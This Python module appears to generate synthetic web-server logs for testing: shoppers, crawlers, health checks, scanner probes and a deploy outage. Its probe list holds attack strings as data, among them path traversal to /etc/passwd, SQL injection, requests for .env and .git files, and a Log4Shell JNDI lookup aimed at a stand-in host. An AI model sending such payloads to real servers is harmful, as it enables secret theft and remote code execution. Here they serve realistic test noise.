"""What the web server writes: customers, crawlers, monitoring, what the internet tries everywhere, and deploys."""

from collections.abc import Iterator
from datetime import datetime, timedelta
from random import Random

from support.traffic.lines import MONITOR, Line, access, error, every, stranger, within

DAY_SECONDS = 86_000
PAGES = (
    "/",
    "/shop",
    "/shop/shoes",
    "/shop/boots?page=2",
    "/cart",
    "/about",
    "/blog/how-we-select-leather",
    "/static/app.css",
    "/static/app.js",
    "/img/logo.png",
)
SEARCHES = (
    "/search?q=union+jack+socks",
    "/search?q=select+shoes",
    "/search?q=drop+earrings",
    "/search?q=o%27neill",
    "/search?q=boots+%26+shoes",
)
CRAWLERS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.1; +https://openai.com/gptbot)",
)
BROWSER = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
)
PROBES = (
    "GET /.env HTTP/1.1",
    "GET /.git/config HTTP/1.1",
    "GET /wp-login.php HTTP/1.1",
    "POST /xmlrpc.php HTTP/1.1",
    "GET /phpmyadmin/index.php HTTP/1.1",
    "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
    "GET /cgi-bin/luci/;stok=/locale?form=country HTTP/1.1",
    "GET /actuator/env HTTP/1.1",
    "GET /solr/admin/info/system HTTP/1.1",
    "GET /owa/auth/logon.aspx HTTP/1.1",
    "GET /?id=1%27%20OR%201=1-- HTTP/1.1",
    "GET /../../../../etc/passwd HTTP/1.1",
    "GET /index.php?lang=../../../../tmp/x HTTP/1.1",
    "POST /boaform/admin/formLogin HTTP/1.1",
    "GET /backup.sql HTTP/1.1",
)


def customers(random: Random, day: datetime, sessions: int) -> Iterator[Line]:
    """They look around, search, sign in, and mistype."""
    for _ in range(sessions):
        who, at = f"198.51.100.{random.randint(30, 250)}", within(random, day, DAY_SECONDS)
        for _ in range(random.randint(3, 10)):
            at += timedelta(seconds=random.uniform(1, 25))
            path = random.choice(SEARCHES if random.random() < 0.1 else PAGES)
            yield access(at, who, f"GET {path} HTTP/2.0", random.choice((200, 200, 200, 200, 304)), agent=BROWSER)
        if random.random() < 0.2:
            for _ in range(random.choice((0, 0, 1, 2))):
                at += timedelta(seconds=8)
                yield access(at, who, "POST /login HTTP/2.0", 401, agent=BROWSER)
            yield access(at + timedelta(seconds=8), who, "POST /login HTTP/2.0", 302, agent=BROWSER)
        if random.random() < 0.03:
            yield access(at + timedelta(seconds=12), who, "GET /old-page HTTP/2.0", 404, agent=BROWSER)
        if random.random() < 0.005:
            yield access(at + timedelta(seconds=13), who, "POST /cart HTTP/2.0", 500, agent=BROWSER)


def machines(random: Random, day: datetime) -> Iterator[Line]:
    """Crawlers, which ask for old pages too, and the monitoring."""
    for number, agent in enumerate(CRAWLERS):
        who = f"192.0.2.{240 + number}"
        for at in (within(random, day, DAY_SECONDS) for _ in range(45)):
            path = random.choice((*PAGES, "/robots.txt", "/sitemap.xml", "/old-page", "/blog/2019/gone"))
            yield access(at, who, f"GET {path} HTTP/1.1", 404 if "old" in path or "gone" in path else 200, agent=agent)
    for at in every(day, timedelta(minutes=5), 287):
        yield access(at, MONITOR, "GET /healthz HTTP/1.1", 200, 2, agent="Uptime-Kuma/1.23")


def probers(random: Random, day: datetime, attackers: int) -> Iterator[Line]:
    """What every public web server is asked for."""
    for _ in range(attackers):
        who, at = stranger(random), within(random, day, DAY_SECONDS)
        agent = random.choice(
            (
                "Mozilla/5.0 zgrab/0.x",
                "python-requests/2.31",
                "Mozilla/5.0 (compatible; CensysInspect/1.1)",
                "curl/8.5.0",
                BROWSER,
            )
        )
        for _ in range(random.choice((1, 1, 2, 6, 20))):
            request = random.choice(PROBES)
            yield access(at, who, request, 400 if "/../" in request else 404, agent=agent)
            at += timedelta(seconds=random.uniform(0.2, 4))
        if random.random() < 0.2:
            yield access(at, who, r"\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03", 400, 157, agent="-")
        if random.random() < 0.1:
            yield access(at, who, "GET / HTTP/1.1", 200, agent="${jndi:ldap://203.0.113.9:1389/a}")
        if random.random() < 0.1:
            yield error(
                at,
                "info",
                "SSL_do_handshake() failed (SSL: error:0A00006C:SSL routines::bad key share) while SSL "
                f"handshaking, client: {who}, server: 0.0.0.0:443",
            )


def deploy(random: Random, at: datetime) -> Iterator[Line]:
    """For half a minute the shop does not answer."""
    for number in range(random.randint(5, 14)):
        moment, who = at + timedelta(seconds=2 + 1.5 * number), f"198.51.100.{random.randint(30, 250)}"
        yield access(moment, who, "GET /shop HTTP/2.0", 502, 552, agent=BROWSER)
        yield error(
            moment,
            "error",
            f"connect() failed (111: Connection refused) while connecting to upstream, client: {who}, "
            'server: shop.example, request: "GET /shop HTTP/2.0", upstream: "http://127.0.0.1:8080/shop", '
            'host: "shop.example"',
        )
